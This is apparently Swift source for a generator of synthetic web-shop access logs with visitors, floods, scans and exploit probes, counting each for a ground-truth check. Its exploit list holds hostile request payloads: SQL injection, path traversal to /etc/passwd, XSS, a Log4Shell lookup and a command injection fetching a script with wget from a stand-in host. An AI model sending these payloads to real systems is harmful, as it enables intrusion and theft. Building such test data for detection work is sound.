/// `access.log` of a busy shop in the Combined format: visitors and crawlers, floods, searches for what is not there, exploits.
struct AccessLog {
  let output: Output
  var random: Random
  private var clock = Clock(format: "%d/%b/%Y:%H:%M:%S %z")
  private var attackers = Attackers([
    .init(pace: 15_000...30_000, strength: 500...900, rest: 20_000_000...60_000_000),
    .init(pace: 150_000...350_000, strength: 120...240, rest: 20_000_000...60_000_000),
    .init(pace: 2_000_000...9_000_000, strength: 4...12, rest: 10_000_000...40_000_000),
  ])

  private var floods = Windows(threshold: 100, timespan: 10)
  private var scans = Windows(threshold: 20, timespan: 60)
  private var probers: Set<Address> = []
  private var notFound = 0
  private var probes = 0

  /// Mean gap between two requests in microseconds: two hundred a second.
  private static let gap = 5_000
  private static let visitors = 100_000

  private let pages: [StaticString] = [
    "/", "/products", "/products/garden/spade-", "/cart", "/checkout/address", "/search?q=union+jack+mug&page=",
    "/blog/2026/02/tulips-",
    "/api/v1/items/", "/api/v1/session", "/static/css/site.", "/static/js/app.", "/images/product-", "/favicon.ico",
    "/robots.txt",
  ]
  private let lost: [StaticString] = [
    "/old/backup-", "/archive/db-", "/test/page-", "/beta/form-", "/private/report-", "/tmp/dump-",
  ]
  private let exploits: [StaticString] = [
    "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--%20", "/index.php?page=../../../../../../etc/passwd",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/?x=${jndi:ldap://198.19.255.1:1389/a}",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/ping?host=127.0.0.1;wget%20http://198.19.255.1/x.sh", "/.env", "/.git/config",
  ]
  private let browsers: [StaticString] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.org/about)",
  ]

  init(output: Output, seed: UInt64) {
    (self.output, random) = (output, Random(seed: seed))
  }

  func tell(_ truth: inout Truth) {
    truth.add("not_found", notFound)
    truth.add("probes", probes)
    truth.add("flooders", floods.alerting)
    truth.add("scanners", scans.alerting)
    truth.add("probers", probers)
  }

  /// One request.
  mutating func step() {
    clock.advance(mean: Self.gap, &random)
    switch attackers.strike(at: clock.microseconds, &random) {
    case (0, let source)?: flood(source)
    case (1, let source)?: scan(source)
    case (_, let source)?: probe(source)
    case nil: visit(Address(index: random.skewed(Self.visitors)))
    }
  }

  private mutating func begin(_ source: Address, _ method: StaticString) {
    floods.add(source, at: clock.seconds)
    output.put(source)
    output.put(" - - [")
    clock.put(to: output)
    output.put("] \"")
    output.put(method)
  }

  private mutating func end(_ source: Address, _ status: Int, _ bytes: Int, _ referrer: StaticString, _ agent: StaticString) {
    if status == 404 {
      notFound += 1
      scans.add(source, at: clock.seconds)
    }
    output.put(" HTTP/1.1\" ")
    output.put(status)
    output.put(byte: UInt8(ascii: " "))
    output.put(bytes)
    output.put(" \"")
    output.put(referrer)
    output.put("\" \"")
    output.put(agent)
    output.put("\"")
    output.endLine()
  }

  private mutating func visit(_ source: Address) {
    let page = random.below(pages.count)
    begin(source, page == 3 ? "POST " : "GET ")
    output.put(pages[page])
    // The paths that end in a dash, a slash or an equals sign want a number.
    switch page {
    case 2, 5, 6, 7: output.put(random.below(5000))
    case 9, 10: output.put(random.pick(["css", "4f2a.js", "min.js"]))
    case 11:
      output.put(random.below(5000))
      output.put(".webp")
    default: break
    }
    let referrer: StaticString = random.chance(60) ? "https://shop.example.com/products" : "-"
    // One browser for one visitor.
    end(source, status(), random.within(180...48_000), referrer, browsers[Int(source.bits % 4)])
  }

  private mutating func status() -> Int {
    switch random.below(1000) {
    case ..<860: 200
    case ..<940: 304
    case ..<970: 301
    case ..<990: 404
    case ..<999: 403
    default: 500
    }
  }

  private mutating func flood(_ source: Address) {
    begin(source, "POST ")
    output.put("/api/v1/session")
    end(source, random.chance(30) ? 429 : 200, random.within(40...400), "-", "python-requests/2.32.3")
  }

  private mutating func scan(_ source: Address) {
    begin(source, "GET ")
    output.put(random.pick(lost))
    output.put(random.below(100_000), width: 5)
    output.put(".zip")
    end(source, 404, 153, "-", browsers[0])
  }

  private mutating func probe(_ source: Address) {
    probers.insert(source)
    probes += 1
    begin(source, "GET ")
    output.put(random.pick(exploits))
    end(
      source, random.chance(50) ? 404 : 400, 153, "-",
      random.chance(50) ? browsers[1] : "sqlmap/1.9.2#stable (https://sqlmap.org)")
  }
}
